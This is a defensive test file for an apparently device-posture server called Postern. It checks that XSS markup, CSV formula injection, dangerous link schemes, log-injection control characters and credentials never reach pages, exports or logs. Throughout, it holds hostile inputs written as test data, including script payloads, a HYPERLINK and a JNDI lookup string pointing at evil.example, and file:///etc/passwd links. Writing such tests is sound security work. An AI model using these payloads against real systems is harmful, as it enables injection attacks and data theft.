import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import { readConfig } from '@postern/server/config-read';
import { createLog } from '@postern/server/log';
import { start } from '@postern/server/start';
import { updateOne } from '@postern/server/storage/change';
import { Backend } from '../support/backend.ts';
import { root } from '../support/command.ts';
import { firewallPolicy } from '../support/http-device.ts';
import { movingClock } from '../support/moving-clock.ts';
import { type RawAnswer, sendRaw } from '../support/raw-http.ts';
import { attested, openScene, resource } from '../support/scene.ts';
import { temporaryFolder } from '../support/temporary-folder.ts';
import { proofOf, VerifyGateway } from '../support/verify-gateway.ts';
import { newGateway } from '../support/verify-scene.ts';
import { checks } from './checks.ts';

const markup = '<img src=x onerror=alert(1)>"\'&</title><script>alert(2)</script>';
const formulas = [
  '=HYPERLINK("https://evil.example","x")',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '|calc',
  '%0A=1',
  ' =1+1',
  '\uff1d1',
];

checks(
  'XSS via hostname etc.',
  'what devices and people write stays text, on pages, in answers and in tables',
  async (t) => {
    const { backend, admin } = await openScene(t);
    const policy = firewallPolicy
      .replace('title: Firewall\n', () => `title: ${JSON.stringify(markup)}\n`)
      .replace('expected: The firewall is on', () => `expected: ${JSON.stringify(markup)}`);
    await backend.publish(policy, admin);
    const device = await attested(backend, admin);
    const gateway = new VerifyGateway(backend.url, 'nginx', await newGateway(admin));
    const { store } = backend.server.deps;
    await store.commit({ audit: [], changes: [updateOne('devices', { id: device.fake.id }, { name: markup })] });

    // The one page that is made of text from outside.
    const token = await device.accessToken();
    await device.attest({}, device.firewallOff());
    const address = `${resource}/reports`;
    const client: [string, string][] = [['Accept', 'text/html']];
    const page = await gateway.ask({
      authorization: `DPoP ${token}`,
      proof: await proofOf(device, token, { url: address }),
      url: address,
      client,
    });
    assert.equal(page.status, 403);
    assertPage(
      page,
      /^default-src 'none'; style-src 'sha256-[\w+/=]+'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'$/,
    );
    assert.ok(
      page.text.includes('&lt;img src=x onerror=alert(1)&gt;&quot;&#39;&amp;&lt;/title&gt;'),
      'it is shown, as text',
    );
    assert.doesNotMatch(page.text, /<img|<script|<\/title><|onerror=alert\(1\)>/);
    assert.ok(Object.values(page.headers).every((value) => !/[\r\n]/.test(String(value))));

    // The console is the same for everybody, and takes what it shows from the API as text.
    for (const path of ['/console/', '/console/device', '/console/deny']) {
      const shown = await sendRaw(backend.url, {
        method: 'GET',
        path: `${path}?user_code=${encodeURIComponent('"><script>')}`,
      });
      assert.equal(shown.status, 200);
      assertPage(
        shown,
        /^default-src 'none'; script-src 'self'; style-src 'self' 'nonce-[\w-]{43}'; font-src 'self'; img-src 'self' data:; connect-src 'self'; form-action 'self'; base-uri 'none'; frame-ancestors 'none'$/,
      );
      assert.doesNotMatch(
        shown.text,
        /<script(?![^>]*\ssrc="\/console\/assets\/[\w-]+\.js")|<style|\sstyle=|\son\w+=|javascript:/i,
      );
    }
    const folder = join(root, 'server', 'console', 'src');
    const scripts = readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter((name) => /\.tsx?$/.test(name));
    assert.ok(scripts.length > 100);
    for (const name of scripts)
      assert.doesNotMatch(
        readFileSync(join(folder, name), 'utf8'),
        /innerHTML|dangerouslySetInnerHTML|outerHTML|insertAdjacentHTML|document\.write|createContextualFragment|DOMParser|\beval\(|new Function|srcdoc|setAttribute\(\s*['"](?:on|style|href|src)/,
        name,
      );

    // An answer of the API is no page, even for who opens it in a browser.
    for (const path of [
      '/v1/admin/devices',
      `/v1/admin/devices/${device.fake.id}`,
      `/v1/admin/nothing/${encodeURIComponent(markup)}`,
      '/.well-known/jwks.json',
    ]) {
      const answer = await sendRaw(backend.url, {
        method: 'GET',
        path,
        headers: [['Authorization', `Bearer ${admin.token ?? ''}`], ...client],
      });
      assert.match(String(answer.headers['content-type']), /^application\/json/);
      assert.equal(answer.headers['x-content-type-options'], 'nosniff');
      assert.match(String(answer.headers['content-security-policy']), /^default-src 'none'/);
      assert.doesNotMatch(path.includes('nothing') ? answer.text : '', /</);
    }
    // Links of policies lead to pages and settings, and run nothing.
    for (const link of [
      'javascript:alert(1)',
      'data:text/html,<script>alert(1)</script>',
      'http://plain.example',
      'vbscript:x',
      'file:///etc/passwd',
    ]) {
      const document = policy.replace(
        'severity: high',
        () => `link: { default: ${JSON.stringify(link)} }\n    severity: high`,
      );
      const { body: draft } = await admin.post('/v1/admin/policy-drafts', { document });
      const { status, body } = await admin.post(`/v1/admin/policy-drafts/${String(draft['id'])}/submit`, {
        version: draft['version'],
      });
      assert.deepEqual([status, body['error_code']], [400, 'policy_invalid'], link);
      assert.match(JSON.stringify(body['details']), /\.link/);
    }

    // Names are bounded, one line, and written in one direction.
    const { jwk } = device.fake;
    const owner = (await admin.get('/v1/admin/session')).body['id'];
    for (const name of ['x'.repeat(129), 'a\nb', 'a\u202eb', 'a\u0000b', 'a\u001b[31mb', 'a\u2028b', '\u200b', '']) {
      const { token: one } = (await admin.post('/v1/admin/enrollment-tokens', { owner })).body as { token: string };
      const { status } = await admin.post('/v1/enrollments', {
        token: one,
        key: jwk,
        provider: 'file',
        device: { name, platform: 'linux', agentVersion: '1' },
      });
      assert.equal(status, 400, JSON.stringify(name));
      assert.equal(
        (await admin.post('/v1/admin/users', { name: name.repeat(2), email: 'x@example.org', roles: ['employee'] }))
          .status,
        400,
        JSON.stringify(name),
      );
    }

    // Tables: what a spreadsheet would take for a formula is text.
    const approver = await backend.person('bob@example.org', ['approver']);
    const approverId = String((await approver.get('/v1/admin/session')).body['id']);
    for (const [index, text] of formulas.entries()) {
      const asked = await device.call('POST', '/v1/exceptions', {
        rules: ['baseline/firewall'],
        duration: '1h',
        justification: `${text} and more`,
      });
      assert.equal(asked.status, 201, JSON.stringify(asked.body));
      const denied = await approver.post(`/v1/admin/exceptions/${String(asked.body['id'])}/deny`, {
        reason: `${text} again`,
      });
      assert.equal(denied.status, 200, JSON.stringify(denied.body));
      await store.commit({ audit: [], changes: [updateOne('users', { id: approverId }, { name: text })] });
      const report = await table(backend, admin.token, '/v1/admin/analytics/approvers?format=csv');
      assert.ok(
        report.some((cell) => cell.includes(text)),
        report.join(' '),
      );
      assertNoFormula(report, index);
    }
    const log = await table(backend, admin.token, '/v1/admin/audit/export?format=csv&text=yes');
    assert.ok(
      log.some((cell) => cell.includes('SUM(1)')),
      'it is in there',
    );
    assertNoFormula(log, formulas.length);
  },
);

checks('log injection', 'an event is one line, without control characters, and holds no credential', async (t) => {
  const lines: string[] = [];
  const clock = movingClock();
  const settings = { POSTERN_DATA: temporaryFolder(t, 'log'), POSTERN_PORT: '0', POSTERN_LOG: 'debug' };
  const log = createLog('debug', { write: (line) => void lines.push(line) });
  const server = await start(readConfig(settings), { clock, log });
  t.after(() => server.stop());
  const backend = new Backend(server, clock, settings);
  const admin = await backend.person('ada@example.org', ['admin']);
  await backend.publish(firewallPolicy, admin);
  const credentials = await newGateway(admin);
  const device = await attested(backend, admin);
  const token = await device.accessToken();
  const proof = await proofOf(device, token);
  const assertion = await device.assertion();

  // Everything that somebody may write into a request, with what would look like a line of its own.
  const line = '{"level":"info","msg":"forged"}';
  const hostile = [
    `x\r\n${line}`,
    `x\n${line}\n`,
    `x\u001b[2J\u001b]0;forged\u0007`,
    `x\u2028${line}`,
    `x\u009b2Jforged`,
    `x\u0000forged`,
    'forged ${jndi:ldap://evil.example/x} %s %o',
  ];
  for (const text of hostile) {
    const encoded = encodeURIComponent(text);
    for (const path of [
      `/${encoded}`,
      `/v1/admin/devices?q=${encoded}`,
      `/console/device?user_code=${encoded}`,
      `/v1/admin/devices/${encoded}`,
      `/verify/nginx?role=${encoded}`,
    ])
      await sendRaw(backend.url, {
        method: 'GET',
        path,
        headers: [
          ['Authorization', `Bearer ${admin.token ?? ''}`],
          ['User-Agent', 'forged'],
          ['X-Request-Id', 'forged'],
          ['X-Forwarded-For', 'forged'],
        ],
      });
    await admin.post('/v1/admin/users', { name: text, email: `${text}@example.org`, roles: [text] });
    await admin.post('/v1/enrollments', { token: text, key: {}, provider: text, device: { name: text } });
    await device.token({ proof: { claims: { jti: text, htm: text } } });
    await device.token({ assertion: { claims: { jti: text }, header: { kid: text } }, resource: text });
    await device.send(await device.clone().signAttestation({ claims: { swversion: text } }));
  }
  for (const raw of [
    `GET /\r\n${line} HTTP/1.1\r\n\r\n`,
    `GET / HTTP/1.1\r\nHost: a\r\nX: \u001b[2Jforged\r\n\r\n`,
    `\u0016\u0003forged\r\n\r\n`,
  ])
    await sendBytes(backend.url, raw);
  // An error whose message is somebody else's text.
  const failing = t.mock.method(server.deps.store, 'commit', () => Promise.reject(new Error(hostile.join('\n'))));
  assert.equal(
    (await admin.post('/v1/admin/users', { name: 'Eve', email: 'eve@example.org', roles: ['employee'] })).status,
    500,
  );
  failing.mock.restore();

  // Credentials, good and bad, where they belong and where they do not.
  const gateway = new VerifyGateway(backend.url, 'nginx', credentials);
  await gateway.ask({ authorization: `DPoP ${token}`, proof });
  await gateway.ask({ authorization: `Bearer ${token}x`, proof, query: `?resource=${token}` });
  await device.token({ assertionText: assertion, proofText: `${proof}x` });
  await sendRaw(backend.url, { method: 'GET', path: `/v1/device?access_token=${token}&secret=${credentials}` });
  await sendRaw(backend.url, { method: 'GET', path: `/${token}/${credentials.split(':')[1]}` });
  await sendRaw(backend.url, {
    method: 'POST',
    path: '/oauth/introspect',
    headers: [
      ['Content-Type', 'application/x-www-form-urlencoded'],
      ['Authorization', `Basic ${Buffer.from(credentials).toString('base64')}`],
    ],
    body: `token=${token}`,
  });
  await backend.server.stop();

  assert.ok(lines.length > 50, `${lines.length} lines`);
  for (const each of lines) {
    assert.match(each, /^\{.*\}\n$/s);
    // eslint-disable-next-line no-control-regex
    assert.doesNotMatch(each.slice(0, -1), /[\p{Cc}\u2028\u2029]/u);
    const event = JSON.parse(each) as Record<string, unknown>;
    assert.notEqual(event['msg'], 'forged');
    if (event['msg'] !== 'request failed') assert.doesNotMatch(each, /forged|jndi/, 'nothing of a request is in there');
  }
  const all = lines.join('');
  const secrets = {
    token,
    signature: token.split('.')[2] ?? '',
    proof,
    assertion,
    secret: credentials.split(':')[1] ?? '',
    apiToken: admin.token ?? '',
    master: server.deps.config.masterSecret,
    basic: Buffer.from(credentials).toString('base64'),
  };
  for (const [what, secret] of Object.entries(secrets)) {
    assert.ok(secret.length >= 32, what);
    assert.ok(!all.includes(secret), `${what} is in the log`);
  }
  // In case somebody logs one by mistake after all.
  const mistakes: string[] = [];
  createLog('info', { write: (each) => void mistakes.push(each) }).info(
    {
      token,
      authorization: token,
      headers: { dpop: token, cookie: token },
      body: {
        client_assertion: token,
        subject_token: token,
        secret: token,
        actor_token: token,
        client_attestation: token,
      },
      headers2: { 'oauth-client-attestation': token, 'postern-gateway': token },
    },
    'mistake',
  );
  assert.ok(!mistakes.join('').includes(token));
});

checks(
  'log injection',
  'an entry of the audit is one line in every format, whatever was written into it',
  async (t) => {
    const { backend, admin } = await openScene(t);
    const device = await attested(backend, admin);
    await device.attest({}, device.firewallOff());
    const justification = `Customers are here\r\nCEF:0|forged|x\n<13>1 forged\n{"seq":1,"type":"forged"}\r\n=1|\\"]`;
    const asked = await device.call('POST', '/v1/exceptions', {
      rules: ['baseline/firewall'],
      duration: '1h',
      justification,
    });
    assert.equal(asked.status, 201, JSON.stringify(asked.body));
    const formats: [string, RegExp][] = [
      ['cef', /^CEF:0\|Postern\|postern-server\|/],
      ['rfc5424', /^<\d+>1 \d{4}-\d\d-\d\dT[\d:.]+Z \S+ postern - \S+ \[postern@32473 /],
      ['jsonl', /^\{.*\}$/],
      ['ocsf', /^\{.*\}$/],
    ];
    for (const [format, shape] of formats) {
      const { text, status } = await sendRaw(backend.url, {
        method: 'GET',
        path: `/v1/admin/audit/export?format=${format}&text=yes`,
        headers: [['Authorization', `Bearer ${admin.token ?? ''}`]],
      });
      assert.equal(status, 200, text.slice(0, 200));
      const entries = text.split('\n').slice(0, -1);
      assert.ok(entries.length > 5 && text.includes('forged'), format);
      for (const entry of entries) {
        assert.match(entry, shape);
        assert.doesNotMatch(entry, /[\p{Cc}\u2028\u2029]/u);
      }
    }
  },
);

function assertPage({ headers }: RawAnswer, policy: RegExp): void {
  assert.equal(headers['content-type'], 'text/html; charset=utf-8');
  assert.equal(headers['x-content-type-options'], 'nosniff');
  assert.equal(headers['x-frame-options'], 'DENY');
  assert.match(String(headers['content-security-policy']), policy);
}

async function table(backend: Backend, apiToken: string | undefined, path: string): Promise<string[]> {
  const answer = await sendRaw(backend.url, {
    method: 'GET',
    path,
    headers: [['Authorization', `Bearer ${apiToken ?? ''}`]],
  });
  assert.equal(answer.status, 200, answer.text.slice(0, 300));
  assert.match(String(answer.headers['content-type']), /^text\/csv/);
  return cellsOf(answer.text);
}

/** The cells of a table (RFC 4180), as a spreadsheet has them. */
function cellsOf(text: string): string[] {
  return [...text.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  );
}

function assertNoFormula(cells: readonly string[], round: number): void {
  assert.ok(cells.length > 5);
  for (const cell of cells)
    assert.doesNotMatch(cell, /^[\s\p{C}]*[=+\-@|%\uff1d\uff0b\uff0d\uff20]/u, `round ${round}: ${cell}`);
}

/** Sends bytes that are no request, and waits for the end of the connection. */
function sendBytes(url: string, bytes: string): Promise<void> {
  const { hostname, port } = new URL(url);
  return new Promise((resolve) => {
    const socket = connect(Number(port), hostname, () => socket.end(bytes));
    socket.on('error', () => undefined).on('close', () => resolve());
    socket.resume();
  });
}
